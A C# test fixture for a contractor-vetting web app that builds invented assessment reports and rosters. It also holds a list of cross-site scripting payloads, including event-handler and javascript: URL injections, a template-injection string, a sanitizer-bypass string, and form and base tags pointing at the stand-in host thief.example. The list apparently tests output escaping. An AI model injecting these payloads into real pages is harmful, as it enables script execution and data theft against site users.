using System.Text.Json;
using GigVet.Model;
using GigVet.Vetting;

namespace GigVet.Host.Tests.Page;

/// <summary>Reports about invented people, as the API would answer them.</summary>
internal static class Invented
{
    public const string Id = "asm_00000000000000000000000000";

    /// <summary>Of 100 people 88 would be genuine.</summary>
    public const string Explanation = """
        {"baseRate":{"prior":0.02,"genuine":88,"from":71,"to":95,"cases":31},"baseRateSays":"","whyNotHigher":["\"High\" begins at 45."],"whyNotLower":["One finding."]}
        """;

    private static readonly (string? Band, int? Score)[] Bands =
        [("low", 6), ("medium", 27), ("low", 0), ("inconclusive", 0), ("high", 52), (null, null), ("low", 12), ("critical", 81)];

    private static readonly DateTimeOffset Now = new(2026, 11, 1, 9, 0, 0, TimeSpan.Zero);

    /// <summary>What strangers put where a name or a text is expected.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>window.hit = 1</script>",
        "<img src=x onerror=\"window.hit = 1\">",
        "<svg onload=\"window.hit = 1\"><a xlink:href=\"javascript:window.hit=1\">x</a></svg>",
        "\"><iframe srcdoc=\"<script>parent.hit = 1</script>\"></iframe>",
        "</textarea></title></style><style>*{display:none}</style>",
        "<a href=\"javascript:window.hit = 1\">press</a>",
        "<form action=https://thief.example><input name=key></form>",
        "<base href=https://thief.example/><link rel=stylesheet href=//thief.example/x.css>",
        "{{constructor.constructor('window.hit = 1')()}} ${window.hit = 1}",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=window.hit=1&gt;\">",
        "&lt;b&gt;&#60;script&#62;\u0000\u202E\u2066",
        "<details open ontoggle=\"window.hit = 1\"><object data=javascript:window.hit=1></object>",
    ];

    public static string Report(string name = "Mira Kessler", int findings = 3, Func<int, string>? text = null, string source = "https://mira.example/about")
    {
        text ??= place => $"Fact number {place}.";
        var assessment = new Assessment
        {
            Id = Id,
            Status = AssessmentStatus.Completed,
            Contractor = new Subject("web", "mira.example", new Uri(source), name),
            Score = 18,
            Band = RiskBand.Medium,
            Recommendation = Recommendation.Review,
            Coverage = 0.41,
            Reasons =
            [
                new Reason("identity.name-mismatch", "identity", text(0), 28),
                new Reason("github.merged-by-others", "github", text(1), -10),
            ],
            Findings = [.. Enumerable.Range(0, findings).Select(place => Finding(place, text(place), source)), Open(text(0))],
            Sources = [new SourceReport("github", SourceState.Blocked, text(0), 2, Now), new SourceReport(text(1), SourceState.Ok, text(1), 1, Now)],
            Changes = [new Change(text(0), text(1), text(2))],
            NextSteps = [text(0), text(1), text(2)],
            PolicyVersion = text(0),
            AssessedAt = Now,
        };

        return JsonSerializer.Serialize(assessment, GigVetJson.Options);
    }

    public static string Roster(int count, Func<int, string> name) => JsonSerializer.Serialize(
        new
        {
            Contractors = Enumerable.Range(0, count).Select(place => new
            {
                Contractor = new ContractorRef("web", $"{place}.example"),
                Claims = new { Name = name(place) },
                Cadence = "weekly",
                Note = name(place),
                Bands[place % Bands.Length].Band,
                Bands[place % Bands.Length].Score,
                LastCheckedAt = Now,
                NextCheckAt = Now.AddDays(7),
                Unread = place % 7 == 3 ? new[] { new { Source = place % 2 == 0 ? name(place) : "github", Since = Now } } : null,
            }),
            Cursor = (string?)null,
        },
        GigVetJson.Options);

    private static Finding Finding(int place, string text, string source) => new()
    {
        Code = place switch { 0 => "identity.name-mismatch", 1 => "github.merged-by-others", _ => $"portfolio.invented-{place}" },
        Family = place switch { 0 => "identity", 1 => "github", _ => "portfolio" },
        Outcome = Outcome.Raised,
        Strength = (Strength)(place % 4),
        Message = text,
        Evidence = [new Evidence(text, new Uri(source), Now), new Evidence(text, new Uri("https://mira.example/other"), Now)],
        FalsePositives = text,
        NextStep = text,
        Applicable = true,
    };

    private static Finding Open(string text) => Finding(5, text, "https://mira.example/") with { Outcome = Outcome.NotAvailable, Evidence = [] };
}
